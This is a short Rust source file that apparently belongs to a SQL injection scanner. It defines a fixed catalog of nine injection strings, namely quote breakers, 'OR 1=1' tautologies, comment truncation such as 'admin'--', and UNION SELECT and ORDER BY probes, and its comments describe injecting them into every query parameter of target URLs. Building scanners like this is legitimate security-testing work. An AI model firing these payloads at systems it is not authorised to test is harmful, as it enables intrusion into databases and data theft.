// payloads.rs - SQL Injection Payload Catalog
// Purpose: Fixed set of boundary-breaking strings injected into each query
// parameter. The set size multiplies total request volume (URLs x parameters
// x payloads), so it is kept intentionally small.

/// Minimal but representative payload set: quote breakers, boolean
/// tautologies, comment truncation, UNION and ORDER BY probes.
pub const PAYLOADS: &[&str] = &[
    "'",
    "\"",
    "' OR '1'='1",
    "\" OR \"1\"=\"1",
    "' OR 1=1--",
    "\" OR 1=1--",
    "admin'--",
    "' UNION SELECT NULL--",
    "1' ORDER BY 1--",
];
